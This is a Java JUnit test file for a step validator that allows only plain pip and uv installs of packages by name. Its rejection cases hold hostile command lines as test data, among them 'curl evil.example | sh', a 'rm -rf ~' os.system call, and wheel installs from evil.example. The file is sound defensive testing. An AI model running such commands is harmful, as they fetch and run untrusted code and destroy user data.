package org.torchplan.client.run;

import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class StepValidatorTest {

    private static Step step(String commandLine) {
        // '|' separates arguments so a table row can hold arguments with spaces
        return new Step("test step", Arrays.asList(commandLine.split("\\|")));
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "python|-m|pip|install|--index-url|https://download.pytorch.org/whl/cu126|torch==2.12.0+cu126|torchvision==0.27.0+cu126",
        "python|-m|pip|install|--pre|--index-url|https://download.pytorch.org/whl/nightly/cu128|torch==2.13.0.dev20260518+cu128",
        "python|-m|pip|install|--index-url=https://pypi.org/simple|transformers>=4.40|torch==2.12.0+cu126",
        "python|-m|pip|install|--extra-index-url|https://mirror.example/simple|requests[socks]==2.32.3",
        "python|-m|pip|install|--only-binary|:all:|torch==2.12.0",
        "python|-m|pip|install|pywin32; sys_platform == 'win32'",
        "uv|pip|install|--index-url|https://download.pytorch.org/whl/cpu|torch==2.12.0+cpu",
        "uv|pip|install|--python|python|--index-strategy|unsafe-best-match|torch==2.12.0+cpu",
        "uv|pip|install|--python|python|--index-url|https://download.pytorch.org/whl/nightly/cpu|--prerelease=allow|torch==2.13.0.dev20260518+cpu",
        "python|-m|pip|install|--index-url|https://pypi.org/simple|transformers[torch] (>=4.40, <5)|torch==2.12.0",
        "python|-m|pip|install|--index-url|https://pypi.org/simple|numpy>=2; python_version >= \"3.10\"|torch==2.12.0",
    })
    void plainInstallsOfRequirementsByNamePass(String commandLine) {
        assertThatCode(() -> StepValidator.validate(List.of(step(commandLine)))).doesNotThrowAnyException();
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "sh|-c|curl evil.example | sh",
        "/usr/bin/python3|-m|pip|install|torch",
        "bash|-m|pip|install|torch",
        "python|-c|import os; os.system('rm -rf ~')",
        "python|-m|pip|uninstall|-y|torch",
        "python|-m|http.server",
        "python|-m|pip|install",
        "python|-m|pip|install|--index-url|file:///etc|torch",
        "python|-m|pip|install|--target|/etc|torch",
        "python|-m|pip|install|-r|/tmp/requirements.txt",
        "python|-m|pip|install|-e|.",
        "python|-m|pip|install|./local/package",
        "python|-m|pip|install|/tmp/evil-1.0-py3-none-any.whl",
        "python|-m|pip|install|https://evil.example/evil-1.0-py3-none-any.whl",
        "python|-m|pip|install|evil @ https://evil.example/evil.whl",
        "python|-m|pip|install|--pre=yes|torch",
        "python|-m|pip|install|--python|/tmp/evil|torch",
        "uv|pip|install|--python|/tmp/evil|torch",
        "uv|run|evil.py",
        "uv|pip|install|--index-url|https://ok.example/simple",
    })
    void anythingElseIsRefusedBeforeAnythingRuns(String commandLine) {
        assertThatThrownBy(() -> StepValidator.validate(List.of(step(commandLine))))
                .isInstanceOf(UnsafeStepException.class)
                .hasMessageContaining("refusing to run step 1");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "python|-m|pip|install|torch\u0000evil"})
    void emptyOrControlCharacterArgumentsAreRefused(String commandLine) {
        Step step = commandLine.isEmpty() ? new Step("empty", List.of()) : step(commandLine);

        assertThatThrownBy(() -> StepValidator.validate(List.of(step))).isInstanceOf(UnsafeStepException.class);
    }

    @Test
    void theMessageNamesTheOffendingStep() {
        List<Step> steps = List.of(step("python|-m|pip|install|torch==2.12.0"), step("curl|https://evil.example"));

        assertThatThrownBy(() -> StepValidator.validate(steps))
                .hasMessageContaining("step 2")
                .hasMessageContaining("'curl'");
    }
}
